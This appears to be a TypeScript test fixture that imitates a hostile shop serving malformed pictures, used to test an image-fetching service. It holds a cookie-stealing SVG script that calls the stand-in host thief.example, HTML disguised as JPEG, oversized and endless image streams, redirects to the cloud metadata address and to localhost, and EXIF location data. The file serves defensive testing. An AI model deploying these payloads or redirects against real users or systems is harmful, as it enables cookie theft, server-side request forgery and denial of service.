import type { ServerResponse } from 'node:http';
import { pipeline } from 'node:stream/promises';
import sharp from 'sharp';
import { shopPicture } from './shop-pictures.ts';

type Answer = (response: ServerResponse) => Promise<unknown> | unknown;

const MB = 1024 * 1024;
const HUGE = 100 * MB;
const JPEG = { 'content-type': 'image/jpeg' };
const SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//thief.example/"+document.cookie)</script></svg>';

const aJpeg = () => shopPicture('mug').jpeg();
const MEGABYTE = Buffer.alloc(MB, 0xff);

/** A hundred megabytes that begin as a JPEG does. */
const aHugeJpeg = async function* () {
  yield await aJpeg().toBuffer();
  for (let sent = 0; sent < HUGE; sent += MB) yield MEGABYTE;
};
/** Ends when the reader has had enough. */
const pour: Answer = (response) => pipeline(aHugeJpeg, response).catch(() => undefined);

const redirect =
  (location: string): Answer =>
  (response) =>
    response.writeHead(302, { location }).end();

/** Pictures as no shop should have them, by their names. */
const PICTURES: Readonly<Record<string, Answer>> = {
  'announced.jpg': (response) => pour(response.writeHead(200, { ...JPEG, 'content-length': HUGE })),
  'poured.jpg': (response) => pour(response.writeHead(200, JPEG)),
  'script.svg': (response) => response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SCRIPT),
  'script.jpg': (response) => response.writeHead(200, JPEG).end(SCRIPT),
  'page.jpg': (response) => response.writeHead(200, JPEG).end('<!doctype html><script>alert(1)</script>'),
  'text.png': async (response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end(await shopPicture('lamp').png().toBuffer()),
  'inside.jpg': redirect('http://169.254.169.254/latest/meta-data'),
  'inside-https.jpg': redirect('https://127.0.0.1/picture.jpg'),
  'unsafe.jpg': redirect('http://wood.example/board.jpg'),
  'moved.jpg': redirect('https://wood.example/board.jpg'),
  'broken.jpg': async (response) =>
    response.writeHead(200, JPEG).end((await aJpeg().toBuffer()).subarray(0, 900)),
  'vast.png': async (response) =>
    response.writeHead(200, { 'content-type': 'image/png' }).end(
      await sharp({
        create: { width: 7_000, height: 6_000, channels: 3, background: '#803020' },
        limitInputPixels: false,
      })
        .png()
        .toBuffer(),
    ),
  'placed.jpg': async (response) =>
    response.writeHead(200, JPEG).end(
      await aJpeg()
        .withExif({
          IFD0: { Make: 'SecretPhone' },
          IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '54/1 41/1 15/1', GPSLongitudeRef: 'E' },
        })
        .toBuffer(),
    ),
  'silent.jpg': () => undefined,
  'failing.jpg': (response) => response.writeHead(503).end(),
};

const pageOf = (name: string): string =>
  `<!doctype html><meta property="og:type" content="product"><meta property="og:title" content="Odd ${name}">` +
  `<meta property="og:image" content="https://odd-pictures.example/${name}">` +
  '<meta property="product:price:amount" content="12.00"><meta property="product:price:currency" content="USD">';

/** The shop `odd-pictures.example`: the page `/p/{name}` shows the picture of this name. */
export const answerOddPicture = async (response: ServerResponse, path: string): Promise<void> => {
  const name = path.replace(/^\/(?:p\/)?/, '');
  const picture = Object.hasOwn(PICTURES, name) ? PICTURES[name] : undefined;
  if (!picture) response.writeHead(404).end();
  else if (path.startsWith('/p/')) response.writeHead(200, { 'content-type': 'text/html' }).end(pageOf(name));
  else await picture(response);
};
